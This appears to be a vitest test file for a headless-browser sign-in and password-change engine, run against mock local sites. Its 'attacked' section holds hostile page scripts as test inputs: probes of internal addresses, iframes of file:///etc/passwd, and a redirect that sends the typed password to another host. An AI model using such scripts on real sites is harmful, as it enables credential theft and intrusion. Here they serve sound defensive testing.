/** The browser of the server's own, against small sites on this machine: what it gets into, and what gets at it. */

import { createServer, get, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { NO_STEPS, stepsSchema } from "../src/core/signin/steps";
import type { TestedPage } from "../src/core/signin/testReport";
import { BrowserEngine } from "../src/server/signin/browser/browserEngine";
import { whyNotStarting } from "../src/server/signin/browser/chromium";
import { browserProgram } from "../src/server/signin/browser/program";
import type { ChangeSent, SignedIn, SignInTask } from "../src/server/signin/engine";
import { SignInFailure } from "../src/server/signin/guardedClient";
import { studyPage } from "../src/server/signin/studiedPage";
import { left, spokenBy } from "./serverBrowsers";

const USER = "box-office";
const PASSWORD = "canary-browser/engine#73";

let server: Server;
let elsewhere: Server;
let origin: string;
let other: string;
let page = "";
/** Answers of the site by "METHOD /path"; what is not here is the page itself. */
let answers: Record<string, (body: string, request: IncomingMessage, response: ServerResponse) => unknown> = {};
const heard: string[] = [];
const heardElsewhere: string[] = [];

const bodyOf = async (request: IncomingMessage) => {
  const parts: Buffer[] = [];
  for await (const part of request) parts.push(part as Buffer);
  return Buffer.concat(parts).toString();
};
const listen = async (made: Server) => {
  await new Promise<void>((done) => made.listen(0, "127.0.0.1", done));
  return `http://127.0.0.1:${(made.address() as AddressInfo).port}`;
};

beforeAll(async () => {
  server = createServer(async (request, response) => {
    const path = (request.url ?? "/").replace(/\?.*/, "");
    const body = await bodyOf(request);
    heard.push(`${request.method} ${request.url} ${body}`);
    const answer = answers[`${request.method} ${path}`];
    if (answer) return void answer(body, request, response);
    response.setHeader("content-type", "text/html");
    response.end(path === "/in" ? page : "<title>Today</title><h1>Today</h1><a href=/out>Sign out</a>");
  });
  origin = await listen(server);
  elsewhere = createServer((request, response) => {
    heardElsewhere.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end("internal");
  });
  other = await listen(elsewhere);
});
afterAll(() => Promise.all([server, elsewhere].map((one) => new Promise((done) => one.close(done)))));
beforeEach(() => {
  answers = {};
  heard.splice(0);
  heardElsewhere.splice(0);
});

const program = () => browserProgram(process.env.CHROMIUM_PATH ?? "/usr/bin/chromium", "nobody");

const engine = () =>
  new BrowserEngine(
    program(),
    { allowedTargets: new Set([new URL(origin).host]), ownPort: 1 },
    { read: async (one) => studyPage(one) },
  );

function taskOf(more: Partial<SignInTask>): SignInTask {
  return {
    signInPage: `${origin}/in`,
    login: Promise.resolve({ userName: USER, password: PASSWORD, code: null }),
    steps: NO_STEPS,
    allows: (address) => address.startsWith(`${origin}/`),
    plainHttp: true,
    worked: null,
    userAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Safari/537.36",
    acceptLanguage: "en-GB,en;q=0.8",
    signal: AbortSignal.timeout(40_000),
    onProgress: () => undefined,
    claimCode: async () => true,
    ...more,
  };
}

const visit = (more: Partial<SignInTask> = {}): Promise<SignedIn> => engine().signIn(taskOf(more));

const outcome = (more?: Partial<SignInTask>): Promise<string> =>
  visit(more).then(
    () => "signed-in",
    (error) => (error instanceof SignInFailure ? error.failure : String(error)),
  );

const FIELDS = `<label>User name <input id=u></label><label>Password <input id=p type=password></label><p id=e class=error></p><button id=go type=button>Sign in</button>`;
const SEND = `const r=await fetch("/api/in",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({u:q("u").value,p:q("p").value})});`;
const accept =
  (more: (response: ServerResponse) => unknown) =>
  (body: string, _request: IncomingMessage, response: ServerResponse) => {
    const { u, p } = JSON.parse(body) as { u: string; p: string };
    response.setHeader("content-type", "application/json");
    if (u !== USER || p !== PASSWORD) return response.writeHead(401).end('{"error":"no"}');
    return more(response);
  };
const withCookie = accept((response) => response.setHeader("set-cookie", "visit=1; Path=/; HttpOnly").end("{}"));
const drawn = (inner: string, before = "") =>
  `<!doctype html><title>Quill</title>${before}<div id=app></div><script>setTimeout(()=>{const root=document.getElementById("app");root.innerHTML=${JSON.stringify(inner)};const q=(id)=>document.getElementById(id);q("go").onclick=async()=>{${SEND}if(r.ok){history.pushState({},"","/home");root.innerHTML="<h1>Welcome</h1><p>Today</p>"}else q("e").textContent="Wrong user name or password"}},80)</script>`;

describe("changes a password", () => {
  const FRESH = "canary-fresh/new#18";
  const change = async (told: string[] = [], more: Partial<SignInTask> = {}): Promise<ChangeSent> =>
    engine().change({
      ...taskOf(more),
      changePage: null,
      onSignedIn: () => void told.push("in"),
      create: async (rules) => {
        told.push(`made: ${rules}`);
        return FRESH;
      },
      onSend: async () => void told.push("sends"),
    });
  const settings = (form: string, script: string) =>
    `<!doctype html><title>Settings</title><h1>Change password</h1>${form}<script>${script}</script>`;
  const FORM =
    "<label>Current password <input id=o type=password autocomplete=current-password></label><label>New password <input id=n type=password autocomplete=new-password minlength=12></label><p id=e class=error></p><button id=go type=button>Change password</button>";
  const BY_SCRIPT = `const q=(id)=>document.getElementById(id);q("go").onclick=async()=>{const r=await fetch("/api/password",{method:"POST",body:JSON.stringify([q("o").value,q("n").value])});if(r.ok)document.body.innerHTML="<h1>Your password was changed</h1>";else q("e").textContent="This password is invalid."}`;
  const html = (text: string) => (_body: string, _request: IncomingMessage, response: ServerResponse) =>
    response.setHeader("content-type", "text/html").end(text);
  beforeEach(() => {
    page = drawn(FIELDS);
    answers["POST /api/in"] = withCookie;
    answers["GET /.well-known/change-password"] = (_body, _request, response) =>
      response.writeHead(302, { location: "/settings" }).end();
  });

  test("on a page that a script sends, once what is new is written down", async () => {
    answers["GET /settings"] = html(settings(FORM, BY_SCRIPT));
    answers["POST /api/password"] = (_body, _request, response) => response.end("{}");
    const told: string[] = [];
    expect(await change(told)).toEqual({ says: "accepted", at: `${origin}/settings`, rules: "" });
    expect(told).toEqual(["in", "made: minlength: 12", "sends"]);
    expect(heard.filter((one) => one.includes(FRESH))).toEqual([
      `POST /api/password ${JSON.stringify([PASSWORD, FRESH])}`,
    ]);
    expect(left(process.pid)).toEqual({ processes: 0, profiles: 0 });
  });

  test("that the site turns away is said to be rejected", async () => {
    answers["GET /settings"] = html(settings(FORM, BY_SCRIPT));
    answers["POST /api/password"] = (_body, _request, response) => response.writeHead(422).end("{}");
    expect((await change()).says).toBe("rejected");
  });

  test("a code on a second page: the entry's own is typed there, and without one it is said", async () => {
    const asks = `document.body.innerHTML='<h1>Security check</h1><form onsubmit="return false"><label>Code from your app <input id=c inputmode=numeric autocomplete=one-time-code></label><button id=ok>Confirm</button></form>';q("ok").onclick=async()=>{const r=await fetch("/api/code",{method:"POST",body:q("c").value});if(r.ok)document.body.innerHTML="<h1>Your password was changed</h1>"}`;
    answers["GET /settings"] = html(
      settings(FORM, BY_SCRIPT.replace('document.body.innerHTML="<h1>Your password was changed</h1>";', `{${asks}}`)),
    );
    answers["POST /api/password"] = (_body, _request, response) => response.end("{}");
    answers["POST /api/code"] = (_body, _request, response) => response.end("{}");
    expect((await change()).says).toBe("asks-code");
    expect(heard.filter((one) => one.startsWith("POST /api/code"))).toEqual([]);
    const code = { secret: "JBSWY3DPEHPK3PXP", digits: 6, period: 30, algorithm: "SHA1" as const };
    const login = Promise.resolve({ userName: USER, password: PASSWORD, code });
    expect((await change([], { login })).says).toBe("accepted");
    expect(heard.filter((one) => /^POST \/api\/code \d{6}$/.test(one))).toHaveLength(1);
  });

  test("a page that would put the new one into an address sends nothing", async () => {
    const form = `<form action="/settings">${FORM.replace("type=button", "").replace("id=n", "id=n name=n")}</form>`;
    answers["GET /settings"] = html(settings(form, ""));
    expect((await change()).says).toBe("stopped");
    expect(heard.filter((one) => one.includes("canary-fresh"))).toEqual([]);
  });

  test("without such a page nothing is made", async () => {
    answers["GET /.well-known/change-password"] = (_body, _request, response) => response.writeHead(404).end();
    const told: string[] = [];
    await expect(change(told)).rejects.toMatchObject({ outcome: "no-change-page" });
    expect(told).toEqual(["in"]);
  });
});

describe("for a test's report", () => {
  const pictured = async (more: Partial<SignInTask> = {}) => {
    const pictures: Uint8Array[] = [];
    const came = await outcome({ onPicture: (one) => pictures.push(one), ...more });
    return { came, pictures };
  };
  const isJpeg = (picture: Uint8Array | undefined) => picture?.[0] === 0xff && picture[1] === 0xd8;

  test("it takes a picture of where it ended, also where it was not let in", async () => {
    page = drawn(FIELDS);
    answers = { "POST /api/in": withCookie };
    const inside = await pictured();
    expect([inside.came, inside.pictures.map(isJpeg)]).toEqual(["signed-in", [true]]);
    const login = Promise.resolve({ userName: USER, password: "another-one-entirely", code: null });
    const outside = await pictured({ login });
    expect([outside.came, outside.pictures.map(isJpeg)]).toEqual(["wrong-password", [true]]);
  });

  test("it takes none of a page that shows the password, as it is or in disguise", async () => {
    answers = { "POST /api/in": withCookie };
    for (const shown of ["pw", "btoa(pw)", "encodeURIComponent(pw)", "'For you:'+pw+'.'"]) {
      page = drawn(FIELDS).replace(
        'root.innerHTML="<h1>Welcome</h1><p>Today</p>"',
        `const pw=q("p").value;root.innerHTML="<h1>Welcome</h1><p>"+${shown}+"</p>"`,
      );
      expect((await pictured()).pictures).toEqual([]);
    }
  });
});

describe("gets in", () => {
  test("where scripts draw the form and send it as JSON", async () => {
    page = drawn(FIELDS);
    answers = { "POST /api/in": withCookie };
    const session = await visit();
    expect(session.cookies.map(({ name, value, httpOnly }) => [name, value, httpOnly])).toEqual([["visit", "1", true]]);
    expect(session.landing).toBe(`${origin}/home`);
    expect(heard.filter((line) => line.startsWith("POST"))).toHaveLength(1);
  });

  const inDatabase = (value: string) =>
    drawn(FIELDS).replace(
      "history.pushState",
      `await new Promise(async(d)=>{const v=${value};const o=indexedDB.open("s",3);o.onupgradeneeded=()=>o.result.createObjectStore("t");o.onsuccess=()=>{const w=o.result.transaction("t","readwrite");w.objectStore("t").put(v,"key");w.oncomplete=()=>{o.result.close();d()}}});history.pushState`,
    );

  test("where the session is kept in a database alone", async () => {
    page = inDatabase('{token:"t-5",at:new Date(7)}');
    answers = { "POST /api/in": accept((response) => response.end("{}")) };
    const row = ["o", [...[["token", ["v", "t-5"]]], ["at", ["d", 7]]]];
    const stores = [{ name: "t", keyPath: null, autoIncrement: false, indexes: [], rows: [[["v", "key"], row]] }];
    const { cookies, storage } = await visit();
    expect(cookies).toEqual([]);
    expect(storage).toEqual([{ origin, local: [], session: [], databases: [{ name: "s", version: 3, stores }] }]);
  });

  test("not where it is a key of the browser's own, nor where it is the password", async () => {
    answers = { "POST /api/in": accept((response) => response.end("{}")) };
    page = inDatabase('await crypto.subtle.generateKey({name:"AES-GCM",length:128},false,["encrypt"])');
    const error = await visit().catch((one: unknown) => one);
    expect(error).toMatchObject({ failure: "session-elsewhere", detail: expect.stringContaining("database") });
    page = inDatabase('{a:[{b:q("p").value}]}');
    expect(await outcome()).toBe("gave-password-back");
  });

  test("where the session is kept in local storage alone", async () => {
    page = drawn(FIELDS).replace(
      "history.pushState",
      'localStorage.setItem("token",(await r.json()).token);sessionStorage.setItem("tab","1");history.pushState',
    );
    answers = { "POST /api/in": accept((response) => response.end('{"token":"t-4471"}')) };
    const { cookies, storage } = await visit();
    expect(cookies).toEqual([]);
    expect(storage).toEqual([{ origin, local: [["token", "t-4471"]], session: [["tab", "1"]], databases: [] }]);
  });

  test("past a question after the password, as its steps say; without them it is left standing", async () => {
    page = drawn(FIELDS).replace('history.pushState({},"","/home");root.innerHTML=', 'location.href="/ask";void ');
    const question =
      "<title>Quill</title><h1>Remember this?</h1><button id=yes>Yes</button><button id=no onclick=\"fetch('/api/no',{method:'POST'}).then(()=>location.replace('/home'))\">Not now</button>";
    answers = {
      "POST /api/in": withCookie,
      "GET /ask": (_body, _request, response) => response.setHeader("content-type", "text/html").end(question),
      "POST /api/no": (_body, _request, response) => response.setHeader("set-cookie", "asked=1; Path=/").end("{}"),
    };
    expect((await visit()).landing).toBe(`${origin}/ask`);
    const none = { name: "", id: "", label: "" };
    const steps = stepsSchema.parse({
      pages: [
        {
          page: `${origin}/in`,
          enters: [
            { what: "user-name", field: { ...none, id: "u" } },
            { what: "password", field: { ...none, id: "p" } },
          ],
          presses: { ...none, label: "Sign in" },
        },
        { page: `${origin}/ask`, enters: [], presses: { ...none, label: "Not now" } },
      ],
    });
    const pages: TestedPage[] = [];
    const session = await visit({ steps, onPage: (one) => pages.push(one) });
    expect(session.landing).toBe(`${origin}/home`);
    expect(session.cookies.map(({ name }) => name).sort()).toEqual(["asked", "visit"]);
    expect(pages.map(({ bySteps, entered, pressed }) => [bySteps, entered.length, pressed])).toEqual([
      [true, 2, "Sign in"],
      [true, 0, "Not now"],
      [false, 0, null],
    ]);
  });

  test("in a closed shadow root", async () => {
    page = `<title>Quill</title><quill-door></quill-door><script>customElements.define("quill-door",class extends HTMLElement{connectedCallback(){const s=this.attachShadow({mode:"closed"});s.innerHTML=${JSON.stringify(FIELDS)};const q=(id)=>s.getElementById(id);q("go").onclick=async()=>{${SEND}if(r.ok)location.href="/home";else q("e").textContent="Wrong"}}})</script>`;
    answers = { "POST /api/in": withCookie };
    expect((await visit()).landing).toBe(`${origin}/home`);
  });

  test("in a frame of the same site", async () => {
    page = '<title>Quill</title><h1>Quill</h1><iframe src="/door"></iframe>';
    answers = {
      "GET /door": (_body, _request, response) => {
        response.setHeader("content-type", "text/html");
        response.end(
          `<form method=post action=/enter target=_top><label>User name <input name=u></label><label>Password <input type=password name=p></label><button>Sign in</button></form>`,
        );
      },
      "POST /enter": (body, _request, response) => {
        const ok = new URLSearchParams(body).get("p") === PASSWORD;
        response
          .writeHead(303, { location: ok ? "/home" : "/in", ...(ok && { "set-cookie": "visit=2; Path=/" }) })
          .end();
      },
    };
    expect((await visit()).cookies.map(({ value }) => value)).toEqual(["2"]);
  });

  test("user name first, then the password, on one page that changes itself", async () => {
    page = `<title>Quill</title><main id=m><h1>Sign in</h1><label>Email <input id=u type=email autocomplete=username></label><button id=n>Next</button></main><script>const q=(id)=>document.getElementById(id);q("n").onclick=()=>{const u=q("u").value;q("m").innerHTML='<h1>Sign in</h1><p>'+u+'</p><label>Password <input id=p type=password></label><p id=e class=error></p><button id=go>Sign in</button>';q("go").onclick=async()=>{const r=await fetch("/api/in",{method:"POST",body:JSON.stringify({u,p:q("p").value})});if(r.ok)location.href="/home"}}</script>`;
    answers = { "POST /api/in": withCookie };
    expect((await visit()).landing).toBe(`${origin}/home`);
  });

  test("by a link for a button", async () => {
    page = drawn(
      FIELDS.replace("<button id=go type=button>Sign in</button>", '<a id=go class=btn href="#">Sign in</a>'),
    );
    answers = { "POST /api/in": withCookie };
    expect(await outcome()).toBe("signed-in");
  });
});

test("what the entry's steps choose is chosen, and a box to be remembered, ticked by default, is left out", async () => {
  page =
    '<title>Quill</title><form method=post action=/enter><h1>Sign in</h1><label>User name <input name=u></label><label>Password <input type=password name=p></label><select name=branch><option value="">Choose<option value=n>North<option value=s>South</select><label><input type=checkbox name=keep checked> Remember me</label><button>Sign in</button></form>';
  answers = {
    "POST /enter": (_body, _request, response) =>
      response.writeHead(303, { location: "/home", "set-cookie": "visit=3; Path=/" }).end(),
  };
  expect(await outcome({ steps: { ...NO_STEPS, choices: { branch: "s" } } })).toBe("signed-in");
  const sent = new URLSearchParams(heard.find((line) => line.startsWith("POST"))!.split(" ")[2]);
  expect([sent.get("branch"), sent.get("keep")]).toEqual(["s", null]);
});

describe("says what happened", () => {
  test("a wrong password, by the page's word and by the answer to a script, and once", async () => {
    page = drawn(FIELDS);
    answers = { "POST /api/in": (_body, _request, response) => response.writeHead(401).end("{}") };
    expect(await outcome()).toBe("wrong-password");
    expect(heard.filter((line) => line.startsWith("POST"))).toHaveLength(1);
  });

  test("what a page reports besides, and is turned away with, says nothing of the password", async () => {
    page = drawn(FIELDS).replace(
      "history.pushState",
      'await fetch("/api/count",{method:"POST",body:"seen"}).catch(()=>0);history.pushState',
    );
    answers = {
      "POST /api/in": withCookie,
      "POST /api/count": (_body, _request, response) => response.writeHead(403).end("no"),
    };
    expect(await outcome()).toBe("signed-in");
  });

  test("a page without a sign-in, one that asks in the browser's own window, one that holds the password in what it keeps", async () => {
    page = "<h1>Closed today</h1>";
    expect(await outcome()).toBe("not-understood");
    answers = {
      "GET /in": (_body, _request, response) =>
        response.writeHead(401, { "www-authenticate": 'Basic realm="q"' }).end("no"),
    };
    expect(await outcome()).toBe("http-basic");
    page = drawn(FIELDS).replace(
      "history.pushState",
      'localStorage.setItem("kept",btoa("x"+q("p").value));history.pushState',
    );
    answers = { "POST /api/in": withCookie };
    expect(await outcome()).toBe("gave-password-back");
  });
});

test("a browser that does not start says so at start, and leaves nothing; one that does not exist stops Galtry in one line", async () => {
  expect(await whyNotStarting(program())).toBeNull();
  expect(await whyNotStarting({ ...program(), path: "/bin/false" })).toEqual(expect.any(String));
  expect(left(process.pid)).toEqual({ processes: 0, profiles: 0 });
  expect(() => browserProgram("/no/such/browser", "nobody")).toThrow("there is no program /no/such/browser");
  if (process.getuid?.() === 0) {
    expect(() => browserProgram("/bin/true", "root")).toThrow("there is no ordinary user called root");
    expect(() => browserProgram("/bin/true", "no-such-user")).toThrow("there is no ordinary user called no-such-user");
  }
});

describe("attacked", () => {
  const tries = () => `
    fetch("${other}/fetch").catch(()=>0); fetch("${other}/no-cors",{mode:"no-cors"}).catch(()=>0);
    fetch("http://localhost:${new URL(other).port}/name").catch(()=>0);
    fetch("/redirect").catch(()=>0); new Image().src="${other}/image"; navigator.sendBeacon("${other}/beacon","x");
    try{new WebSocket("${other.replace("http", "ws")}/socket")}catch{}
    try{new RTCPeerConnection({iceServers:[{urls:"stun:${new URL(other).host}"}]}).createDataChannel("x")}catch{}
    for(const rel of ["prefetch","preconnect","dns-prefetch","prerender","stylesheet"]){const l=document.createElement("link");l.rel=rel;l.href="${other}/"+rel;document.head.append(l)}
    const f=document.createElement("iframe");f.src="${other}/frame";document.body.append(f);
    const g=document.createElement("iframe");g.src="file:///etc/passwd";document.body.append(g);
    const a=document.createElement("a");a.href="/download";a.download="x";document.body.append(a);a.click();
    navigator.serviceWorker?.register("/worker.js").catch(()=>0);
    window.open("${other}/opened");`;

  test("a page that reaches for internal addresses by every way gets to none of them", async () => {
    page = `${drawn(FIELDS)}<script>${tries()}</script>`.replace(
      'q("go").onclick=async()=>{',
      `q("go").onclick=async()=>{${tries().replaceAll("\n", " ")}`,
    );
    answers = {
      "POST /api/in": withCookie,
      "GET /redirect": (_body, _request, response) =>
        response.writeHead(302, { location: `${other}/redirected` }).end(),
    };
    expect(await outcome()).toBe("signed-in");
    expect(heardElsewhere).toEqual([]);
  });

  test("names that nobody has, packets, and the browser's own pages: it speaks to the proxy and to nothing else", async () => {
    if (process.getuid?.() !== 0) return;
    page = `${drawn(FIELDS)}<script>
      for(const rel of ["dns-prefetch","preconnect","prefetch"]){const l=document.createElement("link");l.rel=rel;l.href="//"+rel+".canary-name.example/";document.head.append(l)}
      fetch("http://fetch.canary-name.example/").catch(()=>0); fetch("https://fetch.canary-name.example/").catch(()=>0);
      try{const r=new RTCPeerConnection({iceServers:[{urls:"stun:stun.canary-name.example"},{urls:"stun:192.0.2.9:3478"}]});r.createDataChannel("x");r.createOffer().then((o)=>r.setLocalDescription(o))}catch{}
      for(const at of ["chrome://version","chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html","view-source:${origin}/in","devtools://devtools/bundled/inspector.html","file:///etc/hostname"]){const f=document.createElement("iframe");f.src=at;document.body?.append(f);try{window.open(at)}catch{}}
    </script>`.replace("<!doctype html>", "<!doctype html><body>");
    answers = { "POST /api/in": withCookie };
    const spoken = new Set<string>();
    const watch = setInterval(() => {
      for (const one of spokenBy(process.pid)) spoken.add(one);
    }, 15);
    const landed: string[] = [];
    expect(await outcome({ onPage: ({ at }) => void landed.push(at) })).toBe("signed-in");
    clearInterval(watch);
    // Chromium asks the kernel whether there is a way over IPv6: it connects a socket to an address of its own, and sends nothing.
    spoken.delete("udp6 60480120000060480000000088880000:01BB");
    // Loopback, and one port of it: the proxy's.
    expect([...spoken].filter((one) => !/^tcp 0100007F:/.test(one))).toEqual([]);
    expect(new Set([...spoken].map((one) => one.split(":").at(-1))).size).toBe(1);
    expect(landed.every((at) => at.startsWith(origin))).toBe(true);
  });

  test("a form of another site, and a page that leads the password away, get nothing", async () => {
    page = `<form method=post action="${other}/take"><label>User name <input name=u></label><label>Password <input type=password name=p></label><button>Sign in</button></form>`;
    expect(await outcome()).toBe("address-not-allowed");
    page = drawn(FIELDS).replace(
      "const r=await",
      `location.href="${other}/take?x="+encodeURIComponent(q("p").value);await new Promise(()=>0);const r=await`,
    );
    expect(await outcome()).toBe("form-unsafe");
    page = `<form action="/search"><label>User name <input name=u></label><label>Password <input type=password name=p></label><button>Sign in</button></form>`;
    expect(await outcome()).toBe("form-unsafe");
    expect(heardElsewhere).toEqual([]);
    expect(heard.join(" ")).not.toContain(encodeURIComponent(PASSWORD));
  });

  test("a page that never ends and one that eats memory are ended, and nothing is left of them", async () => {
    page = "<title>x</title><script>for(;;);</script>";
    expect(await outcome({ signal: AbortSignal.timeout(6_000) })).toMatch(/too-slow|site-down/);
    page = `<title>x</title><p>eats</p><script>setTimeout(()=>{const kept=[];for(;;)kept.push(new Uint8Array(8e6).fill(1))},300)</script>`;
    expect(await outcome({ signal: AbortSignal.timeout(25_000) })).toMatch(/too-much|too-slow|not-understood/);
    expect(left(process.pid)).toEqual({ processes: 0, profiles: 0 });
  });

  test("a proxy without its secret lets nobody through", async () => {
    const { BrowserProxy } = await import("../src/server/signin/browser/proxy");
    const { Guard } = await import("../src/server/signin/guardedClient");
    const guard = new Guard({
      allows: () => true,
      allowedTargets: new Set([new URL(origin).host]),
      ownPort: 1,
      plainHttp: true,
    });
    const proxy = await BrowserProxy.open(guard);
    const through = (secret: string | null) =>
      new Promise<number>((done) => {
        const headers =
          secret === null
            ? {}
            : { "proxy-authorization": `Basic ${Buffer.from(`galtry:${secret}`).toString("base64")}` };
        get({ host: "127.0.0.1", port: proxy.port, path: `${origin}/in`, headers }, (answer) => {
          answer.resume();
          done(answer.statusCode ?? 0);
        });
      });
    expect([await through(null), await through("guess"), await through(proxy.secret)]).toEqual([407, 407, 200]);
    proxy.close();
  });
});
